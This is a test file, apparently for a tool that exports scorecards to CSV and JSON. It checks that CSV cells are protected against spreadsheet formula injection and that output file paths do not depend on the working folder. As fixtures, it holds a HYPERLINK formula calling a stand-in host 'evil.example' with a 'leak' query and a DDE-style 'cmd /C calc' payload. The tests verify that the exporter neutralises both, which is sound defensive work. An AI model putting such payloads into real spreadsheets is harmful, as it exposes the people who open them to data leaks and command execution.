/**
 * Outputs a stranger's content reaches (issue 14, findings 4 and 11): CSV
 * cells a spreadsheet would run as formulas, and `file` paths that must not
 * depend on the folder the build runs in.
 */
import {readFile} from 'node:fs/promises'
import path from 'node:path'
import {parse as parseCsv} from 'csv-parse/sync'
import {describe, expect, it} from 'vitest'
import {build} from '../../src/index.js'
import {toCsv} from '../../src/export/index.js'
import {project, repoRoot, runCli} from '../helpers.js'

describe('CSV formula injection (OWASP)', () => {
  it('prefixes cells starting with =, +, -, @, tab or CR with a quote, and leaves others alone', () => {
    const csv = toCsv(['a'], [['=HYPERLINK("http://evil.example","x")'], ['+1'], ['-2+3'], ['@SUM(A1)'], ['\tx'], ['\rx'], ['a=b'], ['E1']])
    const cells = (parseCsv(csv, {relaxQuotes: true}) as string[][]).slice(1).map((row) => row[0])
    expect(cells).toEqual(["'=HYPERLINK(\"http://evil.example\",\"x\")", "'+1", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx", 'a=b', 'E1'])
  })

  it('neutralises titles, publishers, notes and excerpts in the written CSVs', async () => {
    const dir = await project('minimal', [
      {file: 'evidence/news-2010-07-17.md', replace: 'title: Ministers Meet', with: 'title: \'=HYPERLINK("http://evil.example/?leak","click")\'\nnote: "@SUM(1+1)*cmd|\' /C calc\'!A0"'},
      {file: 'evidence/news-2010-07-17.md', replace: 'publisher: Example News', with: 'publisher: "+Example News"'},
      {file: 'evidence/news-2010-07-17.md', replace: 'The ministers agreed', with: '-The ministers agreed'},
      {file: 'priorities/media.md', replace: 'title: Media freedom', with: 'title: "=1+1"'},
    ])
    const result = await build(dir, {cwd: dir, formats: ['csv', 'json']})
    expect(result.ok, result.files.flatMap((f) => f.messages.map(String)).join('\n')).toBe(true)
    const evidence = parseCsv(await readFile(path.join(dir, 'out', 'evidence.csv'), 'utf8'), {columns: true}) as Record<string, string>[]
    const news = evidence.find((row) => row.id === 'news-2010-07-17')!
    expect(news.title).toBe('\'=HYPERLINK("http://evil.example/?leak","click")')
    expect(news.publisher).toBe("'+Example News")
    expect(news.note).toBe("'@SUM(1+1)*cmd|' /C calc'!A0")
    expect(news.excerpt).toMatch(/^'-The ministers agreed/)
    const priorities = parseCsv(await readFile(path.join(dir, 'out', 'priorities.csv'), 'utf8'), {columns: true}) as Record<string, string>[]
    expect(priorities.find((row) => row.id === 'media')?.title).toBe("'=1+1")
    // JSON keeps the text as written: it is data, not a spreadsheet.
    const json = JSON.parse(await readFile(path.join(dir, 'out', 'scorecard.json'), 'utf8')) as {evidence: {id: string; title: string}[]}
    expect(json.evidence.find((item) => item.id === 'news-2010-07-17')?.title).toBe('=HYPERLINK("http://evil.example/?leak","click")')
  })

  it('--csv-bom starts both CSV files with a UTF-8 byte order mark; without it there is none', async () => {
    const dir = await project('minimal', [{file: 'priorities/media.md', replace: 'title: Media freedom', with: 'title: Свобода СМИ'}])
    expect((await runCli(['build', '--format', 'csv', '--csv-bom'], dir)).code).toBe(0)
    for (const name of ['priorities.csv', 'evidence.csv']) {
      const bytes = await readFile(path.join(dir, 'out', name))
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    }
    expect((await readFile(path.join(dir, 'out', 'priorities.csv'), 'utf8')).slice(1)).toContain('Свобода СМИ')
    expect((await runCli(['build', '--format', 'csv'], dir)).code).toBe(0)
    expect([...(await readFile(path.join(dir, 'out', 'priorities.csv'))).subarray(0, 2)]).toEqual([...Buffer.from('id')])
  })
})

describe('file paths in JSON and CSV', () => {
  it('are project-relative, so output is byte-identical whichever folder the build runs in', async () => {
    const dir = await project('minimal')
    await build(dir, {cwd: dir, out: 'out-a'})
    await build(dir, {cwd: repoRoot, out: 'out-b'})
    await build(dir, {cwd: '/', out: 'out-c'})
    for (const name of ['scorecard.json', 'priorities.csv', 'evidence.csv']) {
      const a = await readFile(path.join(dir, 'out-a', name), 'utf8')
      expect(await readFile(path.join(dir, 'out-b', name), 'utf8')).toBe(a)
      expect(await readFile(path.join(dir, 'out-c', name), 'utf8')).toBe(a)
    }
    const json = JSON.parse(await readFile(path.join(dir, 'out-c', 'scorecard.json'), 'utf8')) as {priorities: {file: string}[]; evidence: {file: string}[]}
    expect(json.priorities.map((p) => p.file).sort()).toEqual(['priorities/media.md', 'priorities/vienna-document.md'])
    expect(json.evidence.map((e) => e.file).sort()).toEqual(['evidence/analysis-2010-10.md', 'evidence/news-2010-07-17.md'])
  })
})
